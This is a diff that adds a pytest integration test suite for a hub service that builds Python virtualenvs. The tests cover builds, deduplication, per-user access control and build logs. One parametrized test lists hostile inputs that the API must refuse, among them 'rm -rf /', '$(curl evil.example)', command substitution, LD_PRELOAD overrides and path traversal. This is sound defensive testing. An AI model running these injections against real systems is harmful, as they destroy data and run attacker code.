@@ -1,0 +1,199 @@
+"""The environments service, run by a real hub, building real virtualenvs with uv."""
+
+from __future__ import annotations
+
+import subprocess
+import time
+from concurrent.futures import ThreadPoolExecutor
+
+import pytest
+import requests
+
+from tests.helpers import wait_for
+
+pytestmark = pytest.mark.integration
+
+USERS = {"alice": "alice-password-1", "bob": "bob-password-22"}
+#: small, pure-Python, and on PyPI for years: quick to build
+SMALL = ["six==1.16.0"]
+
+
+@pytest.fixture(scope="module")
+def env_hub(test_root, account_prefix):
+    from tests.conftest import HubPool
+
+    pool = HubPool(test_root, account_prefix, "envs")
+    hub = pool({"services": {"environments": {"enabled": True}}}, users=USERS)
+    hub.tokens = {name: hub.user_token(name) for name in (*USERS, "admin")}
+    wait_for(lambda: envs_api(hub, "alice", "GET", "bases").status_code == 200, 60,
+             "the environments service")
+    yield hub
+    pool.close()
+
+
+def envs_api(hub, who, method, path, token=None, **kwargs):
+    token = token or hub.tokens[who]
+    return requests.request(
+        method, f"{hub.url}/services/environments/api/{path}",
+        headers={"Authorization": f"token {token}"}, timeout=60, **kwargs,
+    )
+
+
+def wait_built(hub, who, env_id, timeout=300):
+    def done():
+        model = envs_api(hub, who, "GET", f"environments/{env_id}").json()
+        return model if model["status"] in ("ready", "failed") else None
+
+    return wait_for(done, timeout, f"{env_id} to build", interval=1)
+
+
+def test_a_user_creates_an_environment_and_it_builds(env_hub):
+    r = envs_api(env_hub, "alice", "POST", "environments", json={
+        "name": "tiny", "python": SMALL, "env": {"TINY": "yes"},
+        "description": "six, for a test"})
+    assert r.status_code == 202, r.text
+    created = r.json()
+    assert created["id"] == "alice/tiny" and created["status"] == "building"
+    assert created["tag"].startswith("env-")
+
+    model = wait_built(env_hub, "alice", "alice/tiny")
+    assert model["status"] == "ready", envs_api(env_hub, "alice", "GET",
+                                                "environments/alice/tiny/log").text
+    python = model["location"]
+    assert model["runtime_env"] == {"py_executable": python, "env_vars": {"TINY": "yes"}}
+    out = subprocess.run([python, "-c", "import six, redspot, jupyterhub; print(six.__version__)"],
+                         capture_output=True, text=True, cwd="/")
+    assert out.stdout.strip() == "1.16.0", out.stderr
+    log = envs_api(env_hub, "alice", "GET", "environments/alice/tiny/log").text
+    assert f"Building {model['tag']} with the venv builder" in log
+    assert "Built " in log
+
+    listing = envs_api(env_hub, "alice", "GET", "environments").json()["environments"]
+    assert "alice/tiny" in [e["id"] for e in listing]
+    # bob does not see alice's personal environment
+    listing = envs_api(env_hub, "bob", "GET", "environments").json()["environments"]
+    assert "alice/tiny" not in [e["id"] for e in listing]
+    assert envs_api(env_hub, "bob", "GET", "environments/alice/tiny").status_code == 404
+
+
+def test_the_same_spec_is_built_once_also_when_asked_at_once(env_hub):
+    spec = {"python": ["six==1.16.0", "packaging>=20"]}
+
+    def create(who_name):
+        who, name = who_name
+        return envs_api(env_hub, who, "POST", "environments", json={"name": name, **spec})
+
+    with ThreadPoolExecutor(3) as pool:
+        results = list(pool.map(create, [("alice", "same-a"), ("bob", "same-b"),
+                                         ("alice", "same-c")]))
+    assert [r.status_code for r in results] == [202, 202, 202], [r.text for r in results]
+    tags = {r.json()["tag"] for r in results}
+    assert len(tags) == 1
+    model = wait_built(env_hub, "alice", "alice/same-a")
+    assert model["status"] == "ready"
+    log = envs_api(env_hub, "alice", "GET", "environments/alice/same-a/log").text
+    assert log.count("Building env-") == 1
+    # asked again later: ready at once, nothing built
+    r = envs_api(env_hub, "bob", "POST", "environments", json={"name": "same-d", **spec})
+    assert r.status_code == 200 and r.json()["status"] == "ready"
+    assert envs_api(env_hub, "alice", "GET",
+                    "environments/alice/same-a/log").text.count("Building env-") == 1
+
+
+@pytest.mark.parametrize("spec, field, message", [
+    ({"name": "x", "python": ["numpy; rm -rf /"]}, "python[0]", "not a valid requirement"),
+    ({"name": "x", "python": ["--index-url https://evil.example/simple"]}, "python[0]",
+     "is not a package requirement"),
+    ({"name": "x", "python": ["$(curl evil.example)"]}, "python[0]",
+     "is not a package requirement"),
+    ({"name": "x", "python": ["`id`"]}, "python[0]", "is not a package requirement"),
+    ({"name": "x", "python": ["six\nrequests"]}, "python[0]", "is not a package requirement"),
+    ({"name": "x", "python": ["evil @ https://evil.example/evil.whl"]}, "python[0]",
+     "direct URLs are not allowed"),
+    ({"name": "x", "python": ["a" * 300]}, "python[0]", "at most 200 characters"),
+    ({"name": "x", "debian": ["curl; rm -rf /"]}, "debian[0]", "is not a Debian package"),
+    ({"name": "x", "env": {"PATH": "/evil"}}, "env.PATH", "set by Redspot"),
+    ({"name": "x", "env": {"X": "$(id)"}}, "env.X", "may not contain"),
+    ({"name": "x", "env": {"LD_PRELOAD": "/tmp/x.so"}}, "env.LD_PRELOAD", "set by Redspot"),
+    ({"name": "../../etc"}, "name", "is not allowed"),
+    ({"name": "x", "base": "ubuntu:latest"}, "base", "is not a base image; allowed: default"),
+    ({"name": "x", "pip_args": ["--pre"]}, "pip_args", "unknown field"),
+    ({"python": ["six"]}, "name", "required"),
+])
+def test_injection_attempts_and_bad_specs_are_refused(env_hub, spec, field, message):
+    before = envs_api(env_hub, "alice", "GET", "environments").json()["environments"]
+    r = envs_api(env_hub, "alice", "POST", "environments", json=spec)
+    assert r.status_code == 400, r.text
+    assert r.json()["message"].startswith(f"{field}: ")
+    assert message in r.json()["message"]
+    after = envs_api(env_hub, "alice", "GET", "environments").json()["environments"]
+    assert after == before  # nothing listed, nothing built
+
+
+def test_the_venv_builder_refuses_debian_packages_clearly(env_hub):
+    r = envs_api(env_hub, "alice", "POST", "environments",
+                 json={"name": "with-deb", "debian": ["graphviz"]})
+    assert r.status_code == 400
+    assert "the venv builder cannot install Debian packages" in r.json()["message"]
+
+
+def test_a_failed_build_is_never_listed_as_ready(env_hub):
+    r = envs_api(env_hub, "alice", "POST", "environments", json={
+        "name": "broken", "python": ["redspot-no-such-package-anywhere==0.0.1"]})
+    assert r.status_code == 202, r.text
+    model = wait_built(env_hub, "alice", "alice/broken")
+    assert model["status"] == "failed"
+    assert "location" not in model and "runtime_env" not in model
+    log = envs_api(env_hub, "alice", "GET", "environments/alice/broken/log").text
+    assert "Build failed" in log
+    venvs = env_hub.data_dir / "environments" / "venvs"
+    assert not (venvs / model["tag"]).exists()
+
+
+def test_owners_delete_their_own_and_nobody_elses(env_hub):
+    assert envs_api(env_hub, "bob", "POST", "environments",
+                    json={"name": "bobs", "python": SMALL}).status_code in (200, 202)
+    # alice cannot see bob's environment, so she cannot delete it either
+    assert envs_api(env_hub, "alice", "DELETE", "environments/bob/bobs").status_code == 404
+    assert envs_api(env_hub, "bob", "GET", "environments/bob/bobs").status_code == 200
+    # team environments: only admins publish and delete them
+    r = envs_api(env_hub, "bob", "POST", "environments",
+                 json={"name": "shared", "python": SMALL, "team": True})
+    assert r.status_code == 403 and "only admins publish team environments" in r.text
+    r = envs_api(env_hub, "admin", "POST", "environments",
+                 json={"name": "shared", "python": SMALL, "team": True})
+    assert r.status_code in (200, 202), r.text
+    assert "team/shared" in [e["id"] for e in envs_api(env_hub, "bob", "GET", "environments")
+                             .json()["environments"]]
+    r = envs_api(env_hub, "bob", "DELETE", "environments/team/shared")
+    assert r.status_code == 403 and "not yours to delete" in r.text
+    # bob deletes his own; an admin deletes anyone's
+    assert envs_api(env_hub, "bob", "DELETE", "environments/bob/bobs").status_code == 204
+    assert envs_api(env_hub, "bob", "GET", "environments/bob/bobs").status_code == 404
+    assert envs_api(env_hub, "admin", "DELETE", "environments/team/shared").status_code == 204
+
+
+def test_every_request_needs_a_hub_identity_with_the_scope(env_hub):
+    r = requests.get(f"{env_hub.url}/services/environments/api/environments", timeout=30)
+    assert r.status_code == 403
+    assert envs_api(env_hub, "alice", "GET", "environments",
+                    token="not-a-token").status_code == 403
+    # a token of alice's without the environments scopes
+    r = env_hub.api("POST", "/users/alice/tokens",
+                    json={"scopes": ["read:users:name!user=alice"], "note": "narrow"})
+    narrow = r.json()["token"]
+    assert envs_api(env_hub, "alice", "GET", "environments", token=narrow).status_code == 403
+
+
+def test_build_logs_can_be_followed_until_the_build_ends(env_hub):
+    r = envs_api(env_hub, "alice", "POST", "environments",
+                 json={"name": "followed", "python": ["six==1.16.0", "idna==3.10"]})
+    assert r.status_code == 202, r.text
+    start = time.monotonic()
+    with envs_api(env_hub, "alice", "GET", "environments/alice/followed/log?follow=1",
+                  stream=True) as r:
+        text = "".join(chunk for chunk in r.iter_content(decode_unicode=True))
+    assert "Building env-" in text and ("Built env-" in text or "Build failed" in text)
+    assert time.monotonic() - start < 300
+    assert envs_api(env_hub, "alice", "GET",
+                    "environments/alice/followed").json()["status"] == "ready"
